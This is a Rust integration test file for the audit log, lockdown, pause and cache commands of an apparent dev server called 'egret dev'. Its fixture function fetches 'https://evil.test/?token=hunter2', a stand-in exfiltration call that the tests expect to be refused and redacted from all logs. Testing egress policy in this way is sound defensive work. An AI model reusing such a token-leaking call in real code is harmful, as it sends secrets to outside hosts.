//! The audit log of `egret dev`, and the commands that read it; lockdown and pause while a server runs.

use crate::harness::{Server, app, egret_on, followed, interrupt};
use serde_json::Value;
use std::fs;
use std::io::{BufRead, Read};
use std::os::unix::net::UnixDatagram;
use std::path::PathBuf;
use tempfile::TempDir;

/// An app `a` with a stand-in that it may reach, and a function that asks that and a host which nothing allows.
struct Scene {
    at: TempDir,
}

impl Scene {
    fn new() -> Self {
        let at = tempfile::tempdir().unwrap();
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let manifest = format!(
            "version = 1\nname = \"a\"\n[[dev.upstream]]\nhost = \"up.test\"\nport = {port}\nfunctions = \"up\"\n\
             [[dev.net]]\nhost = \"up.test\"\nports = [{port}]\nprivate = [\"127.0.0.1/32\"]\n"
        );
        let f = format!(
            "const urls = ['https://up.test:{port}/x?token=hunter2', 'https://evil.test/?token=hunter2']\n\
             export default async () => {{\n  const seen = []\n  for (const url of urls) {{\n    try {{ seen.push(await (await fetch(url)).text()) }} \
             catch (e) {{ seen.push(e.message) }}\n  }}\n  return new Response(seen.join('\\n'))\n}}\n"
        );
        let folder = at.path().join("app");
        app(&folder, &manifest, &[("f.js", &f)]);
        fs::create_dir(folder.join("up")).unwrap();
        fs::write(folder.join("up/x.js"), "export default () => new Response('up')").unwrap();
        Self { at }
    }

    fn serve(&self, arguments: &[&str]) -> Server {
        Server::on(&self.data(), &self.at.path().join("app"), arguments)
    }

    fn data(&self) -> PathBuf {
        self.at.path().join("data")
    }

    fn run(&self, arguments: &[&str]) -> (Option<i32>, String) {
        let output = egret_on(&self.data(), &[], arguments, b"");
        (output.status.code(), String::from_utf8(output.stdout).unwrap() + &String::from_utf8(output.stderr).unwrap())
    }

    fn done(&self, arguments: &[&str]) -> String {
        let (code, out) = self.run(arguments);
        assert_eq!(code, Some(0), "{arguments:?}: {out}");
        out
    }

    /// The lines of the log once there are so many: it is written a moment after a call has ended.
    fn lines(&self, wanted: usize) -> Vec<Value> {
        loop {
            let out = self.done(&["net", "logs", "--json"]);
            let lines: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
            if lines.len() >= wanted {
                return lines;
            }
        }
    }
}

#[test]
fn a_call_is_told_of_by_logs_stats_and_why_and_nowhere_with_its_query() {
    let scene = Scene::new();
    assert!(scene.done(&["net", "logs"]).contains("nothing"));
    assert!(!scene.data().exists(), "a question makes no data directory");
    let file = scene.at.path().join("audit.jsonl");
    let socket = scene.at.path().join("syslog");
    let syslog = UnixDatagram::bind(&socket).unwrap();
    let [to_file, to_syslog] = [("file", &file), ("syslog", &socket)].map(|(kind, path)| format!("{kind}:{}", path.display()));
    let server = scene.serve(&["--audit", &to_file, "--audit", &to_syslog]);
    let answer = server.get("/f");
    assert!(answer.contains("up\n") && answer.contains("policy.rule.no_host"), "{answer}");
    let id = answer.lines().find_map(|line| line.strip_prefix("x-request-id: ")).unwrap().to_owned();

    let lines = scene.lines(2);
    let [up, evil] = lines.as_slice() else { panic!("{lines:?}") };
    assert_eq!(
        (&up["invocation"], &up["door"], &up["status"], &up["outcome"]),
        (&id.as_str().into(), &"js".into(), &200.into(), &"answered".into())
    );
    assert!(up["rule"].is_string() && up["connect_ms"].is_number() && up["tls_ms"].is_number() && up["first_byte_ms"].is_number(), "{up}");
    assert_eq!((&evil["host"], &evil["code"], &evil["outcome"]), (&"evil.test".into(), &"policy.rule.no_host".into(), &"refused".into()));

    let text = scene.done(&["net", "logs", "--refused", "--since", "1h"]);
    assert!(text.contains("evil.test") && !text.contains("up.test"), "{text}");
    assert!(scene.done(&["net", "logs", "--code", "policy.rule", "--app", "a"]).contains("evil.test"));
    assert!(scene.done(&["net", "logs", "--host", "nowhere.test"]).contains("nothing of that"));
    let stats = scene.done(&["net", "stats"]);
    assert!(stats.contains("up.test") && stats.contains("evil.test"), "{stats}");

    let why = scene.done(&["why", &id]);
    for words in ["allowed by [[dev.net]] number 1", "refused", "egret net allow evil.test --app a", "first byte"] {
        assert!(why.contains(words), "{words}\n{why}");
    }
    let of_call = scene.done(&["why", evil["call"].as_str().unwrap()]);
    assert!(of_call.contains("evil.test") && !of_call.contains("up.test"), "{of_call}");
    assert_eq!(scene.run(&["why", "nobody"]).0, Some(3));

    let called = [server.event("called"), server.event("called")];
    assert_eq!(server.terminate(), Some(0));
    let kept = fs::read_to_string(&file).unwrap();
    assert_eq!(kept.lines().count(), 2, "{kept}");
    let mut buffer = [0; 4096];
    let length = syslog.recv(&mut buffer).unwrap();
    let message = String::from_utf8(buffer[..length].to_vec()).unwrap();
    assert!(message.starts_with("<110>1 20") && message.ends_with(kept.lines().next().unwrap()), "{message}");
    let json = scene.done(&["why", &id, "--json"]) + &scene.done(&["net", "stats", "--json"]) + &scene.done(&["net", "logs", "--json"]);
    let all = format!("{called:?}{kept}{json}{why}{stats}{text}");
    assert!(!all.contains("hunter2"), "{all}");
    assert!(text.lines().chain(stats.lines()).all(|line| line.chars().count() <= 120), "{text}{stats}");
}

#[test]
fn what_was_written_before_a_kill_is_still_there_and_an_order_to_stop_loses_nothing() {
    let scene = Scene::new();
    let server = scene.serve(&["--audit-paths"]);
    server.get("/f");
    scene.lines(2);
    // The harness kills: no handler runs.
    drop(server);
    assert_eq!(scene.lines(2)[0]["path"], "/x");
    let server = scene.serve(&[]);
    server.get("/f");
    assert_eq!(server.terminate(), Some(0));
    let lines: Vec<String> = scene.done(&["net", "logs", "--json"]).lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 4, "what was recorded before the stop is in the store: {lines:?}");
}

#[test]
fn a_log_is_followed_until_it_is_interrupted_or_nobody_reads() {
    let scene = Scene::new();
    let server = scene.serve(&[]);
    let (mut child, mut out) = followed(&scene.data(), &["net", "logs", "--follow", "--refused"]);
    let mut line = String::new();
    out.read_line(&mut line).unwrap();
    assert!(line.starts_with("time (UTC)"), "{line}");
    server.get("/f");
    line.clear();
    out.read_line(&mut line).unwrap();
    assert!(line.contains("refused") && line.contains("evil.test"), "{line}");
    interrupt(&child);
    out.read_to_string(&mut line).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));

    let (mut child, mut out) = followed(&scene.data(), &["net", "logs", "--follow", "--json"]);
    line.clear();
    out.read_line(&mut line).unwrap();
    drop(out);
    assert_eq!(child.wait().unwrap().code(), Some(0), "nobody reads, and nothing more happens");
}

#[test]
fn a_lockdown_and_a_pause_act_on_a_running_server_and_outlive_it() {
    let scene = Scene::new();
    let server = scene.serve(&[]);
    let evil = |answer: &str| answer.contains("policy.rule.no_host");
    assert!(evil(&server.get("/f")));
    assert!(scene.done(&["net", "lockdown"]).contains("LOCKDOWN of all apps"));
    assert!(server.event("warning")["message"].as_str().unwrap().contains("egret net lockdown --off"));
    let answer = server.get("/f");
    assert_eq!(answer.matches("policy.closed.lockdown").count(), 2, "{answer}");
    assert!(scene.done(&["app", "list"]).contains("LOCKDOWN") && scene.done(&["net", "list"]).contains("# LOCKDOWN"));
    let explained = scene.run(&["net", "explain", "GET", "https://a.test/", "--app", "a"]);
    assert!(explained.0 == Some(1) && explained.1.contains("policy.closed.lockdown"), "{}", explained.1);
    drop(server);

    let server = scene.serve(&[]);
    assert!(server.get("/f").contains("policy.closed.lockdown"), "it outlives the server");
    scene.done(&["net", "lockdown", "--off"]);
    server.event("reloaded");
    assert!(evil(&server.get("/f")));
    scene.done(&["net", "lockdown", "--app", "a"]);
    server.event("reloaded");
    assert!(server.get("/f").contains("policy.closed.lockdown"));
    assert!(scene.done(&["net", "lockdown", "--off", "--app", "a"]).contains("app a is open"));
    server.event("reloaded");

    assert!(scene.done(&["app", "pause", "a"]).contains("PAUSED"));
    server.event("reloaded");
    let paused = server.get("/f");
    assert!(paused.starts_with("HTTP/1.1 503 ") && paused.contains("gateway.paused"), "{paused}");
    scene.done(&["app", "resume", "a"]);
    server.event("reloaded");
    assert!(evil(&server.get("/f")));
    assert_eq!(scene.run(&["app", "pause", "nobody"]).0, Some(3));
}

/// What stored answers did, once the log tells of so many attempts: it is written a moment after a call has ended.
fn reused(scene: &Scene, attempts: usize) -> (u64, u64) {
    scene.lines(attempts);
    let sums: Value = serde_json::from_str(&scene.done(&["net", "cache", "stats", "--json"])).unwrap();
    let of = |name: &str| sums["total"][name].as_u64().unwrap();
    (of("hits"), of("upstream"))
}

#[test]
fn stored_answers_are_counted_and_forgotten_while_the_server_runs() {
    let scene = Scene::new();
    let none = scene.done(&["net", "cache", "clear"]);
    assert!(none.contains("of all apps are forgotten") && none.contains("without one there are none"), "{none}");
    assert!(scene.done(&["net", "cache", "stats"]).contains("nothing"));

    let folder = scene.at.path().join("app");
    let manifest = fs::read_to_string(folder.join("egret.toml")).unwrap().replace("[[dev.net]]\n", "[[dev.net]]\ncache = \"5m\"\n");
    fs::write(folder.join("egret.toml"), manifest).unwrap();
    let up = "export default () => new Response('up', { headers: { 'cache-control': 'max-age=60' } })";
    fs::write(folder.join("up/x.js"), up).unwrap();
    let server = scene.serve(&[]);
    server.get("/f");
    server.get("/f");
    assert_eq!(reused(&scene, 4), (1, 1));

    let cleared = scene.done(&["net", "cache", "clear", "--app", "a", "--host", "UP.test"]);
    assert_eq!(cleared, "the stored answers of app a from up.test are forgotten\n");
    server.event("reloaded");
    server.get("/f");
    assert_eq!(reused(&scene, 6), (1, 2), "that host's are gone");
    scene.done(&["net", "cache", "clear", "--host", "other.test"]);
    server.event("reloaded");
    server.get("/f");
    assert_eq!(reused(&scene, 8), (2, 2), "another host's are not");
    scene.done(&["net", "cache", "clear"]);
    server.event("reloaded");
    server.get("/f");
    assert_eq!(reused(&scene, 10), (2, 3));
    assert!(scene.done(&["net", "cache", "stats", "--app", "a"]).contains("up.test"));
    assert_eq!(scene.run(&["net", "cache", "clear", "--host", "up.test/x"]).0, Some(2));
    assert_eq!(scene.run(&["net", "cache", "clear", "--app", "nobody"]).0, Some(3));
}
